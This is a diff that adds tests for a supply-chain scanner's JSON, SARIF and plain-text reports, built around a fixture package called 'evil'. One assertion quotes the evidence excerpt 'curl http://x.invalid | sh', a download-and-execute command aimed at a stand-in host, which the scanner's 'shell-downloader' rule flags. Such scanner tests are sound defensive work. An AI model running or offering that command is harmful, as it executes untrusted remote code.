@@ -1,0 +1,73 @@
+import { test } from 'node:test';
+import { strict as assert } from 'node:assert';
+import { SAMPLE_RESULT } from '../test-support/scan-fixtures.js';
+import { buildJsonReport } from './json.js';
+import { plainSummaryLines } from './plain.js';
+import { buildSarif } from './sarif.js';
+
+test('JSON report: schema v1, packages root cause first, reasons for every non-approved package', () => {
+  const report = buildJsonReport({
+    result: SAMPLE_RESULT,
+    exitCode: 1,
+    failOn: 'unvettable',
+    lockfilePath: '/p/package-lock.json',
+    lockfileVersion: 3,
+  });
+  assert.equal(report.schemaVersion, 1);
+  assert.equal(report.scanId, 'scan-1');
+  assert.equal(report.exitCode, 1);
+  assert.deepEqual(
+    report.packages.map((p) => p.verdict),
+    ['rejected', 'blocked', 'review', 'unvettable', 'approved'],
+  );
+  const blocked = report.packages[1]!;
+  assert.match(blocked.reason!, /depends on rejected evil@1\.0\.1 \(parent@2\.0\.0 > evil@1\.0\.1\)/);
+  assert.deepEqual(blocked.blockedBy?.path, ['parent@2.0.0', 'evil@1.0.1']);
+  const evil = report.packages[0]!;
+  assert.deepEqual(Object.keys(evil).sort(), [
+    'blockedBy',
+    'dev',
+    'findings',
+    'integrity',
+    'key',
+    'name',
+    'reason',
+    'source',
+    'verdict',
+    'version',
+  ]);
+  assert.equal(evil.findings[0]!.evidence[0]!.excerpt, 'curl http://x.invalid | sh');
+  assert.equal(report.packages[3]!.integrity, null);
+  for (const pkg of report.packages) if (pkg.verdict !== 'approved') assert.ok(pkg.reason);
+});
+
+test('SARIF 2.1.0: one result per finding, levels from severity, lockfile + logical package location', () => {
+  const sarif = buildSarif({ result: SAMPLE_RESULT, lockfileUri: 'package-lock.json', toolVersion: '0.1.0' });
+  assert.equal(sarif.version, '2.1.0');
+  const run = sarif.runs[0]!;
+  const byRule = run.results.map((r) => `${r.ruleId}:${r.level}`);
+  assert.deepEqual(byRule, [
+    'shell-downloader:error',
+    'install-script:note',
+    'secure-registry/blocked:error',
+    'install-script-new:error',
+    'secure-registry/unvettable:warning',
+  ]);
+  const first = run.results[0]!;
+  assert.equal(first.locations[0]!.physicalLocation.artifactLocation.uri, 'package-lock.json');
+  assert.deepEqual(first.locations[0]!.logicalLocations[0], {
+    name: 'evil@1.0.1',
+    fullyQualifiedName: 'node_modules/evil',
+    kind: 'package',
+  });
+  const ruleIds = run.tool.driver.rules.map((r) => r.id);
+  assert.equal(new Set(ruleIds).size, ruleIds.length);
+  for (const result of run.results) assert.ok(ruleIds.includes(result.ruleId));
+});
+
+test('plain summary lists root causes first', () => {
+  const lines = plainSummaryLines(SAMPLE_RESULT, 1);
+  const order = lines.filter((l) => l.startsWith('  ')).map((l) => l.trim().split(/\s+/)[0]);
+  assert.deepEqual(order, ['rejected', 'blocked', 'review', 'unvettable']);
+  assert.equal(lines.at(-1), 'exit code 1');
+});
